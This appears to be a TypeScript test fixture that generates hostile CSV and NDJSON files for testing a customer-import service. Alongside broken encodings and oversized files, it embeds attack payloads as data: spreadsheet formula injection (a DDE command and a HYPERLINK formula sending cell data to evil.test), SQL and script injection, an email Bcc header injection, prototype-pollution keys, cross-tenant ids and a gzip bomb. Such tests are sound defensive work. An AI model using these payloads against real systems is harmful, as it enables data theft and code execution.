/** Files that people and attackers hand to an import: broken, huge, in every encoding, or no CSV at all. */
import { deflateRawSync, gzipSync } from 'node:zlib';
import { between, type Chance } from './chance.ts';

export interface HostileFile {
  name: string;
  extension: 'csv' | 'ndjson';
  bytes: Buffer;
  /** Customers that must come in, where that is known. */
  creates?: number;
  /** The service may refuse the import as a whole, for what stands in one row: it stops there. */
  mayStop?: true;
}

const csv = (name: string, content: string | Buffer, creates?: number): HostileFile => ({
  name,
  extension: 'csv',
  bytes: Buffer.from(content as string),
  ...(creates !== undefined && { creates }),
});
const ndjson = (name: string, content: string | Buffer, creates?: number): HostileFile => ({
  ...csv(name, content, creates),
  extension: 'ndjson',
});
/** One whose import the service may refuse as a whole. */
const stopping = (file: HostileFile): HostileFile => ({ ...file, mayStop: true });

/** All of them. `foreign` are ids of another business; chance makes the bytes of those that are noise. */
export const hostileFiles = (
  foreign: { customer: string; location: string },
  chance: Chance,
): HostileFile[] => [
  ...inEveryEncoding(),
  ...brokenShapes(),
  ...hostileCells(foreign),
  ...large(),
  ...binary(chance),
  ...jsonLines(foreign),
];

/** Encodings × separators × ends of lines, of the same six people. */
function inEveryEncoding(): HostileFile[] {
  const people = [
    ['Name', 'Email', 'Phone', 'Notes'],
    ['José Muñoz', 'jose@files.test', '0412 000 101', 'café'],
    ['Zoë “Z” Smith', 'zoe@files.test', '0412 000 102', 'it’s – fine'],
    ['Bea, the second', 'bea@files.test', '', 'a; b'],
    ['Cy "Quote" Lee', '', '(02) 9374 4000', 'tab\tinside'],
    ['Dé', 'de@files.test', '', '€ 5'],
    ['Eve', '', '+61 412 000 106', '1|2'],
  ];
  const encodings: Record<string, (text: string) => Buffer> = {
    'UTF-8': (text) => Buffer.from(text),
    'UTF-8 with BOM': (text) => Buffer.from(`\uFEFF${text}`),
    'UTF-16LE with BOM': (text) => Buffer.from(`\uFEFF${text}`, 'utf16le'),
    'UTF-16BE with BOM': (text) => Buffer.from(`\uFEFF${text}`, 'utf16le').swap16(),
    'Windows-1252': toWindows1252,
  };
  const ends: Record<string, (row: number) => string> = {
    LF: () => '\n',
    CRLF: () => '\r\n',
    CR: () => '\r',
    'mixed ends': (row) => ['\n', '\r\n', '\r'][row % 3]!,
  };
  const quoted = (cell: string) => (/[",;\t|]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
  return Object.entries(encodings).flatMap(([encoding, encode]) =>
    [',', ';', '\t', '|'].flatMap((separator) =>
      Object.entries(ends).map(([ending, end]) => {
        const text = people.map((row, i) => row.map(quoted).join(separator) + end(i)).join('');
        const name = `${encoding}, ${JSON.stringify(separator)}, ${ending}`;
        return csv(name, encode(text), separator === '|' ? undefined : 6);
      }),
    ),
  );
}

/** The letters above that Latin-1 does not have, where Windows puts them. */
const toWindows1252 = (text: string): Buffer =>
  Buffer.from(
    text.replace(
      /[“”’–€]/g,
      (sign) => ({ '“': '\x93', '”': '\x94', '’': '\x92', '–': '\x96', '€': '\x80' })[sign]!,
    ),
    'latin1',
  );

const HEAD = 'Name,Email,Notes\n';
const ANN = 'Ann,ann@files.test,fine\n';

function brokenShapes(): HostileFile[] {
  const utf16 = Buffer.from(`${HEAD}${ANN}`, 'utf16le');
  return [
    csv('empty', ''),
    csv('a BOM alone', '\uFEFF'),
    csv('two BOMs', `\uFEFF\uFEFF${HEAD}${ANN}`, 1),
    csv('a BOM in the middle', `${HEAD}\uFEFF${ANN}`),
    csv('the header alone', HEAD, 0),
    csv('the header without an end of line', HEAD.trim(), 0),
    csv('blank lines alone', '\n\n\r\n\r\r'),
    csv('blanks alone', '   \t  '),
    csv('commas alone', ',,,\n,,,\n'),
    csv('one cell', 'x'),
    csv('blank lines before the header and between rows', `\n\n${HEAD}\n\n${ANN}\n\n`, 1),
    csv('UTF-16LE without BOM', utf16),
    csv('UTF-16BE without BOM', Buffer.from(utf16).swap16()),
    csv(
      'half a letter of UTF-16 at the end',
      Buffer.concat([Buffer.from([0xff, 0xfe]), utf16, Buffer.from([0x41])]),
    ),
    csv('a quote that is never closed', `${HEAD}"Ann,ann@files.test,fine\nBea,bea@files.test,x\n`),
    csv('a quote that is never closed in the last row', `${HEAD}${ANN}Bea,bea@files.test,"x`),
    csv('a quote that is never closed in the header', `Name,"Email,Notes\n${ANN}`),
    csv('quotes within a cell', `${HEAD}An"n,ann@files.test,5" pipe\n`, 1),
    csv('quotes doubled wrong', `${HEAD}"Ann"",ann@files.test,fine\n"Bea" x,bea@files.test,y\n`),
    csv('a blank before a quote', `${HEAD}Ann, "ann@files.test", "a, b"\n`),
    csv('single quotes', `${HEAD}'Ann','ann@files.test','a, b'\n`),
    csv('backslashes before quotes', `${HEAD}"An\\"n",ann@files.test,x\n`),
    csv('ragged rows', `${HEAD}Ann\n${ANN}Bea,bea@files.test,x,y,z\n,\n`),
    csv('a comma at the end of each row', `Name,Email,Notes,\nAnn,ann@files.test,fine,\n`, 1),
    csv('the header again in the middle', `${HEAD}${ANN}${HEAD}Bea,bea@files.test,x\n`, 2),
    csv('headings twice', `Name,Email,Name,Email,Notes,Notes\nAnn,a@files.test,Anna,b@files.test,x,y\n`, 1),
    csv('headings without letters', `,,\nAnn,ann@files.test,fine\n`),
    csv('headings with control characters', `Na\u0007me,Em\u001bail,\u001b[31mNotes\n${ANN}`, 1),
    csv('a line that names the separator', `sep=;\nName;Email\nAnn;ann@files.test\n`),
    csv('a comment before the header', `# exported yesterday\n${HEAD}${ANN}`),
    csv('CR CR LF', `${HEAD}${ANN}`.replaceAll('\n', '\r\r\n'), 1),
    csv('LF CR', `${HEAD}${ANN}`.replaceAll('\n', '\n\r'), 1),
    csv('line separators of Unicode', `Name,Email\u2028Ann,ann@files.test\u2029`),
    csv('form feeds and vertical tabs', `${HEAD}A\fn\vn,ann@files.test,x\n`),
    csv('Ctrl-Z at the end', `${HEAD}${ANN}\x1a`),
    csv(
      'bytes that are not UTF-8 after 64 KB',
      Buffer.concat([Buffer.from(`${HEAD}${'x,,\n'.repeat(20_000)}`), Buffer.from([0xe9, 0x0a])]),
    ),
    csv('ends of lines within quotes', `${HEAD}"Ann\r\nLee",ann@files.test,"a\nb\rc"\n`, 1),
  ];
}

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '=HYPERLINK("http://evil.test?"&A1,"x")',
  "'=1",
  "''=1",
  '\uFF1D1',
  '%0A=1',
  '-',
  '+61 412 000 201',
];

function hostileCells({ customer, location }: { customer: string; location: string }): HostileFile[] {
  const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const inName = (text: string, n = 1) => `${cell(text)},n${n}@files.test,x\n`;
  return [
    csv('NULs in cells', `${HEAD}A\0nn,ann@files.test,x\nBea,bea\0@files.test,y\nCy,cy@files.test,z\0\n`),
    csv('NULs in the header', `Na\0me,Em\0ail\nAnn,ann@files.test\n`),
    csv(
      'formulas in every column',
      `Name,Email,Notes,Tags,Company,Address,Source\n${FORMULAS.map((text, n) => [text, `f${n}@files.test`, ...Array(5).fill(text)].map(cell).join(',')).join('\n')}\n`,
      FORMULAS.length,
    ),
    csv('formulas as headings', `Name,Email,"=1+1","@x","+y","-z"\nAnn,ann@files.test,1,2,3,4\n`, 1),
    csv(
      'formulas in rows that fail',
      `${HEAD}${FORMULAS.map((text) => `${cell(text)},no address,${cell(text)}`).join('\n')}\n`,
      0,
    ),
    csv(
      'prototypes as headings',
      `Name,Email,__proto__,constructor,prototype,toString,hasOwnProperty,valueOf\nAnn,ann@files.test,a,b,c,d,e,f\n`,
    ),
    csv(
      'prototypes in JSON',
      `Name,Email,custom_fields,source_metadata\nAnn,ann@files.test,"{""__proto__"":{""admin"":true}}","{""constructor"":1}"\n`,
    ),
    csv(
      'JSON nested deep',
      `Name,Email,contacts,tags\nAnn,ann@files.test,"${'['.repeat(5_000)}${']'.repeat(5_000)}","${'['.repeat(5_000)}"\n`,
    ),
    csv(
      'JSON of the wrong kind',
      `Name,Email,contacts,tags\nAnn,a@files.test,[null],"[1,2]"\nBea,b@files.test,{},{}\nCy,c@files.test,"[{""type"":""fax""}]",[]\nDi,d@files.test,"[[[]]]","[""x""]"\n`,
    ),
    csv('ids of another business', `customer_id,Name,Email\n${customer},Ann,ann@files.test\n`, 1),
    stopping(
      csv('the location of another business', `Name,Email,location_id\nAnn,ann@files.test,${location}\n`),
    ),
    stopping(
      csv(
        'the columns of an export, with ids of another business',
        `customer_id,location_id,name,company_name,email,phone,contacts,address,status,tags,source,avatar,custom_fields,source_metadata,created_at,updated_at\n${customer},${location},Ann,,ann@files.test,,,,,,,,,,,\n`,
      ),
    ),
    csv(
      'numbers in scientific notation',
      `Name,Mobile\nAnn,6.14123E+10\nBea,6.1412345678E+10\nCy,4.12E+08\nDi,1E+400\nEd,-6E10\n`,
    ),
    csv(
      'huge numbers',
      `Name,Phone,Email,Notes\nAnn,${'9'.repeat(10_000)},a@files.test,1e400\nBea,0,b@files.test,${'9'.repeat(400)}\nCy,-1,c@files.test,NaN\n`,
    ),
    csv(
      'right to left',
      `${HEAD}${inName('\u202eevil\u202c', 1)}${inName('محمد', 2)}${inName('\u2066x\u2069', 3)}`,
      3,
    ),
    csv(
      'a name of combining marks',
      `${HEAD}${inName(`a${'\u0301'.repeat(150)}`)}${inName('\u0301'.repeat(10_000), 2)}`,
    ),
    csv(
      'letters of two code units',
      `${HEAD}${inName('\ud83d\ude00'.repeat(100))}${inName('\ud83d\ude00'.repeat(101), 2)}${inName('𠮷野家', 3)}`,
    ),
    csv(
      'letters that cannot be seen',
      `${HEAD}${inName('\u200b\u200d\ufeff')}${inName('\u00ad', 2)}${inName('\u3164', 3)}`,
    ),
    csv(
      'SQL',
      `${HEAD}${inName("'); drop table customers; --")}${inName('\\', 2)}${inName("E'\\\\x00'", 3)}${inName('$$;$$', 4)}`,
      4,
    ),
    csv(
      'markup',
      `${HEAD}${inName('<script>alert(1)</script>')}${inName('{{constructor.constructor("x")()}}', 2)}`,
      2,
    ),
    csv('steering a terminal', `${HEAD}${inName('\u001b[2J\u001b]0;x\u0007')}`),
    csv(
      'avatars that are no addresses',
      `Name,Email,Avatar\nA,a@files.test,javascript:alert(1)\nB,b@files.test,file:///etc/passwd\nC,c@files.test,http://[::1]/\nD,d@files.test,data:text/html;x\n`,
    ),
    csv(
      'many addresses in a cell',
      `${HEAD}Ann,"${Array.from({ length: 30 }, (_, n) => `a${n}@files.test`).join('; ')}",x\n`,
    ),
    csv(
      'many tags',
      `Name,Email,Tags\nAnn,a@files.test,${Array.from({ length: 150 }, (_, n) => `t${n}`).join('|')}\nBea,b@files.test,"${'x'.repeat(5_000)}"\n`,
    ),
    csv(
      'everybody with the same phone',
      `Name,Phone\n${Array.from({ length: 300 }, (_, n) => `P${n},0412 000 300`).join('\n')}\n`,
    ),
    csv('rows without contact details', `Name,Email\n${'Ann,\n'.repeat(1_000)}`, 0),
    csv('the same row a thousand times', `${HEAD}${ANN.repeat(1_000)}`, 1),
    csv('a mailbox that steers', `${HEAD}Ann,"ann@files.test\r\nBcc: x@evil.test",x\n`),
    csv(
      'halves of pairs',
      Buffer.concat([
        Buffer.from(`\uFEFF${HEAD}A`, 'utf16le'),
        Buffer.from([0x00, 0xd8]),
        Buffer.from(`,ann@files.test,x\n`, 'utf16le'),
      ]),
    ),
  ];
}

function large(): HostileFile[] {
  const wide = Array.from({ length: 10_000 }, (_, n) => `c${n}`);
  return [
    csv(
      'a cell of 1 MB',
      `${HEAD}Ann,ann@files.test,${'x'.repeat(1024 * 1024)}\n${ANN.replaceAll('nn', 'nne')}`,
    ),
    csv('a quoted cell of 9 MB', `${HEAD}"${'x\n'.repeat(4_500_000)}",a@files.test,x\n`),
    csv('a line of 20 MB', 'x'.repeat(20_000_000)),
    csv('a line of 20 MB of commas', ','.repeat(20_000_000)),
    csv('a heading of 1 MB', `Name,Email,${'x'.repeat(1024 * 1024)}\nAnn,ann@files.test,y\n`),
    csv('10,000 columns', `Name,Email,${wide.join(',')}\nAnn,ann@files.test,${wide.join(',')}\n`),
    csv(
      '10,000 columns, empty',
      `Name,Email,${wide.join(',')}\nAnn,ann@files.test,${','.repeat(9_999)}\n`,
      1,
    ),
    csv('a row of 10,000 cells under three headings', `${HEAD}${wide.join(',')}\n${ANN}`, 1),
    csv('100,000 blank lines', `${HEAD}${'\n'.repeat(100_000)}${ANN}`, 1),
    csv('200,000 rows of commas', `${HEAD}${',,\n'.repeat(200_000)}${ANN}`, 1),
    csv('20,000 quotes', `${HEAD}${'"'.repeat(20_000)},ann@files.test,x\n`),
    csv(
      '2,000 cells of formulas',
      `${HEAD}${Array.from({ length: 2_000 }, (_, n) => `=A${n},e${n}@files.test,@x`).join('\n')}\n`,
      2_000,
    ),
  ];
}

function binary(chance: Chance): HostileFile[] {
  const noise = (size: number) => Buffer.from(Array.from({ length: size }, () => between(chance, 0, 255)));
  const zip = Buffer.concat([
    Buffer.from('PK\x03\x04\x14\0\0\0\x08\0', 'latin1'),
    noise(18),
    Buffer.from('xl/workbook.xml'),
    deflateRawSync('<workbook/>'.repeat(500)),
  ]);
  return [
    csv('a spreadsheet by its own format', zip),
    csv('a bomb of gzip', gzipSync(Buffer.alloc(10_000_000, 'x'))),
    csv('a picture', Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1'), noise(2_000)])),
    csv('a PDF', `%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog>>\nendobj\n`),
    csv('a program', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), noise(3_000)])),
    csv('a page', '<!doctype html><html><body><table><tr><td>Ann</td></tr></table></body></html>'),
    csv('a dump of SQL', "insert into customers values (1, 'Ann', 'ann@files.test');\n".repeat(10)),
    csv('JSON under the name of CSV', '[{"name":"Ann","email":"ann@files.test"}]'),
    csv('a card', 'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann\r\nEMAIL:ann@files.test\r\nEND:VCARD\r\n'),
    csv('NULs alone', Buffer.alloc(10_000)),
    csv('0xFF alone', Buffer.alloc(10_000, 0xff)),
    csv(
      'EBCDIC',
      Buffer.from([0xd5, 0x81, 0x94, 0x85, 0x6b, 0xc5, 0x94, 0x81, 0x89, 0x93, 0x15, 0xc1, 0x95, 0x95, 0x6b]),
    ),
    ...Array.from({ length: 8 }, (_, n) => csv(`noise ${n + 1}`, noise(between(chance, 100, 20_000)))),
    ...Array.from({ length: 8 }, (_, n) =>
      csv(
        `a file with noise in it ${n + 1}`,
        Buffer.concat([Buffer.from(`${HEAD}${ANN.repeat(5)}`), noise(40), Buffer.from(`\n${ANN}`)]),
      ),
    ),
    ...Array.from({ length: 8 }, (_, n) =>
      csv(
        `signs of CSV at random ${n + 1}`,
        HEAD + Array.from({ length: 2_000 }, () => '",;\t\r\n ab@='[between(chance, 0, 11)]).join(''),
      ),
    ),
  ];
}

const object = (fields: object) => `${JSON.stringify(fields)}\n`;

function jsonLines({ customer, location }: { customer: string; location: string }): HostileFile[] {
  const ann = { name: 'Ann', email: 'ann@files.test' };
  return [
    ndjson('JSON lines, empty', '', 0),
    ndjson('JSON lines, blank', '\n\n  \n', 0),
    ndjson(
      'JSON lines with a BOM and CRLF',
      `\uFEFF${object(ann).replace('\n', '\r\n')}${object({ ...ann, email: 'b@files.test' })}`,
      2,
    ),
    ndjson('JSON lines without an end', object(ann).trim(), 1),
    ndjson('what is no object', '1\nnull\n[]\n"x"\ntrue\n{\n}\nNaN\n{"a"}\n', 0),
    ndjson('a list of objects', JSON.stringify([ann, ann]), 0),
    ndjson('objects without a line between them', `${JSON.stringify(ann)}${JSON.stringify(ann)}`, 0),
    ndjson('an object that ends the batch early', `${JSON.stringify(ann)}]}\n${object(ann)}`, 1),
    ndjson('a field twice', '{"name":"Ann","name":"Bea","email":"ann@files.test"}\n'),
    ndjson('objects nested deep', `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}\n`, 0),
    ndjson(
      'free fields nested deep',
      `{"email":"ann@files.test","custom_fields":${'{"a":'.repeat(60)}1${'}'.repeat(60)}}\n`,
    ),
    ndjson(
      'prototypes',
      '{"__proto__":{"name":"x"},"email":"a@files.test"}\n{"constructor":1}\n{"custom_fields":{"__proto__":1},"email":"b@files.test"}\n',
    ),
    ndjson(
      'fields of the wrong type',
      ['name', 'email', 'phone', 'tags', 'contacts', 'custom_fields', 'added_tags', 'status']
        .flatMap((field) =>
          [1, null, {}, [], true, 'x'].map((value) => object({ email: 'a@files.test', [field]: value })),
        )
        .join(''),
    ),
    ndjson('fields of nobody', object({ ...ann, admin: true, business_id: customer })),
    stopping(
      ndjson(
        'records of another business',
        object({
          id: customer,
          version: 1,
          contacts: [{ type: 'email', value: 'ann@files.test' }],
          tags: [],
          location_id: location,
        }),
      ),
    ),
    ndjson(
      'records with contacts that are none',
      object({ id: customer, version: 1, contacts: [null, 1, 'x'], tags: [] }) +
        object({ id: customer, version: 1, contacts: [{}], tags: 'x' }),
    ),
    ndjson(
      'a line of 2 MB',
      object({ ...ann, custom_fields: { x: 'x'.repeat(2_000_000) } }) + object({ email: 'b@files.test' }),
      1,
    ),
    ndjson('a line of 20 MB without an end', `{"name":"${'x'.repeat(20_000_000)}`, 0),
    ndjson(
      'NULs and halves of pairs',
      '{"name":"a\\u0000","email":"a@files.test"}\n{"name":"\\ud800","email":"b@files.test"}\n{"name":"a\0"}\n',
    ),
    ndjson(
      'numbers beyond all',
      '{"email":"a@files.test","custom_fields":{"n":1e999}}\n{"email":"b@files.test","custom_fields":{"n":9007199254740993}}\n',
    ),
    ndjson(
      'formulas',
      object({ ...ann, name: '=1+1', tags: ['@x'], custom_fields: { '=k': '=1' } }) +
        object({ email: 'no', name: '=1' }),
    ),
    ndjson('UTF-16', Buffer.from(`\uFEFF${object(ann)}`, 'utf16le'), 0),
    ndjson('CSV under the name of JSON', HEAD + ANN, 0),
    ndjson('NULs alone', Buffer.alloc(5_000)),
    ndjson(
      'bytes that are not UTF-8',
      Buffer.concat([
        Buffer.from('{"name":"'),
        Buffer.from([0xe9, 0xff]),
        Buffer.from('","email":"a@files.test"}\n'),
      ]),
    ),
    ndjson('200,000 blank lines', '\n'.repeat(200_000) + object(ann), 1),
    ndjson('the same line a thousand times', object(ann).repeat(1_000), 1),
    ndjson(
      '100 contacts',
      object({
        contacts: Array.from({ length: 100 }, (_, n) => ({ type: 'email', value: `c${n}@files.test` })),
      }),
      0,
    ),
  ];
}
